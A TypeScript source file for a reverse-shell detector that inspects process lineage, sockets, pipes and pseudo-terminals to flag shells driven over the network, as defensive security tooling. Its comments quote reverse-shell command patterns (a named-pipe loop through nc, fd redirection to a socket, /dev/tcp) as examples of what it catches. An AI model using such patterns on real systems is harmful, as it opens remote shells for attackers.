import type { Severity } from '../../crds/finding.ts';
import type { Stream } from '../decode/process-events.ts';
import type { ProcessImage } from '../lineage/process-table.ts';
import type { ProcessNode } from '../spans/process-node.ts';
import type { Detector, Hit } from './detector.ts';
import type { Pipes } from './pipes.ts';
import { isInteractive, isInterpreter, isOfJobsOwn, isShell, isVersionControl, readsProgram } from './program.ts';
import type { Source, Sources } from './sources.ts';

/** A shell or interpreter that takes its commands from the network: by a socket, by pipes that lead there and back, or by a terminal that such a process holds. */
export function reverseShell(pipes: Pipes, sources: Sources): Detector {
  const seen: Seen = { held: new WeakMap(), onSocket: new WeakSet(), listening: new WeakSet() };
  return {
    executed(node) {
      const { image } = node;
      const isOfShell = isBelow(image.parent, seen.onSocket);
      remember(node, seen);
      if (isOfShell) return null;
      if (!readsProgram(image)) return commandOfSocket(image, sources, seen);
      if (isOnSocket(image)) return hitOf(sources.above(image));
      return heldHit(node, sources.of(image.parent)) ?? pipedHit(node, pipes, sources);
    },
    connected({ transport }, { image }) {
      const source = transport === 'tcp' ? sources.of(image) : null;
      if (source === null) return null;
      const shell = [pipes.writer(image.stdin), pipes.reader(image.stdout)].find(isReading);
      if (shell) return pipedHit(shell, pipes, sources);
      // Node’s usual one starts its shell first.
      const kept = seen.held.get(image);
      return kept?.image.end === null ? heldHit(kept, source) : null;
    },
  };
}

interface Seen {
  /** By what holds them. */
  readonly held: WeakMap<ProcessImage, ProcessNode>;
  /** What these run is their doing, and not found again. */
  readonly onSocket: WeakSet<ProcessImage>;
  /** Shells of which one command reads from a connection. */
  readonly listening: WeakSet<ProcessImage>;
}

function remember(node: ProcessNode, { held, onSocket, listening }: Seen): void {
  const { image } = node;
  const { parent, stdin } = image;
  if (parent !== null && stdin.kind === 'network') listening.add(parent);
  if (!readsProgram(image)) return;
  if (isOnSocket(image)) onSocket.add(image);
  else if (parent !== null && isHeld(image)) held.set(parent, node);
}

function isReading(node: ProcessNode | null): boolean {
  return node !== null && readsProgram(node.image);
}

function isBelow(image: ProcessImage | null, shells: WeakSet<ProcessImage>): boolean {
  for (let at = image; at !== null; at = at.parent) if (shells.has(at)) return true;
  return false;
}

/** Its input is a socket, or what it says goes into one while something else passes its input on (`cat <&3 | sh >&3`). */
function isOnSocket({ stdin, stdout }: ProcessImage): boolean {
  return stdin.kind === 'network' || (stdin.kind === 'pipe' && stdout.kind === 'network');
}

/**
 * A copy of a shell by any name: a program out of the job's own hands that listens and speaks on one connection. What a server hands its callers to is no
 * shell of theirs. And what a shell starts with its output in a connection that it made itself (`/dev/tcp/…`), to which another of its commands listens.
 */
function commandOfSocket(image: ProcessImage, sources: Sources, { listening }: Seen): Hit | null {
  const { stdin, stdout, parent } = image;
  if (stdout.kind !== 'network') return null;
  if (stdin.kind === 'network')
    return isGivenAway(image) ? null : hitBy(sources.above(image), isOfJobsOwn(image) ? 'High' : 'Medium');
  const isTold = parent !== null && isShell(parent) && listening.has(parent);
  return isTold ? hitBy(sources.of(parent), 'Medium') : null;
}

/** An interpreter with a program answers as a server does, and so does version control. */
function isGivenAway(image: ProcessImage): boolean {
  return isInterpreter(image) || isVersionControl(image);
}

function hitBy(source: Source | null, severity: Severity): Hit | null {
  return source === null ? null : { ...hitOf(source), severity };
}

function isHeld(image: ProcessImage): boolean {
  return isOnTerminalOf(image, image.parent) || isHeldByPipes(image);
}

/** Whether what started it both feeds it and hears it, by pipes or sockets of this machine that are not the parent's own input and output. */
function isHeldByPipes({ stdin, stdout, parent }: ProcessImage): boolean {
  return parent !== null && isMadeBy(stdin, parent.stdin) && isMadeBy(stdout, parent.stdout);
}

function isMadeBy(stream: Stream, parents: Stream): boolean {
  return (stream.kind === 'pipe' || stream.kind === 'unix') && stream.file !== parents.file;
}

/** The terminal before which the parent sits is not the parent's own making. */
function isOnTerminalOf({ stdin, stdout }: ProcessImage, parent: ProcessImage | null): boolean {
  const isTerminal = isPseudoTerminal(stdin) && isPseudoTerminal(stdout) && stdin.file === stdout.file;
  return isTerminal && parent !== null && parent.stdin.file !== stdin.file;
}

/** Majors 136 to 143 (Linux, Documentation/admin-guide/devices.txt), above the kernel's own 20 bits of minor. */
function isPseudoTerminal({ kind, file }: Stream): boolean {
  const major = file >>> 20;
  return kind === 'device' && major >= 136 && major <= 143;
}

/** Coding agents keep shells for their commands, and speak with their model; and a program may give a shell a script and take its answer. */
function heldHit(node: ProcessNode, source: Source | null): Hit | null {
  if (source === null || !isHeld(node.image)) return null;
  const own: Severity = isHeldByPipes(node.image) && !isInteractive(node.image) ? 'Medium' : 'High';
  return { ...hitOf(source), severity: node.parent?.agent?.isAgent === true ? 'Low' : own, by: node };
}

/** `cat fifo | sh -i | nc host port > fifo`, and the same by two connections. */
function pipedHit(shell: ProcessNode, pipes: Pipes, sources: Sources): Hit | null {
  const { stdin, stdout } = shell.image;
  const after = pipes.reader(stdout)?.image ?? null;
  const source = sources.of(after);
  if (stdin.kind !== 'pipe' || after === null || source === null) return null;
  const before = pipes.writer(stdin);
  const isLoop = after.stdout.file === stdin.file || (before !== null && sources.of(before.image) !== null);
  if (isLoop || isInteractive(shell.image)) return { ...hitOf(source), severity: 'High', by: shell };
  // Where else should what came from a host go but back to the shell: not to where the step's output goes, and to nobody who was seen.
  const isOwnPipe = after.stdout.kind === 'pipe' && after.stdout.file !== after.parent?.stdout.file;
  return isOwnPipe && pipes.reader(after.stdout) === null ? { ...hitOf(source), severity: 'Medium', by: shell } : null;
}

function hitOf(source: Source | null): Hit {
  const name = source === null ? 'a host that connected to it' : `${source.host}:${source.port}`;
  return { rule: 'reverse-shell', subject: { kind: 'host', name } };
}
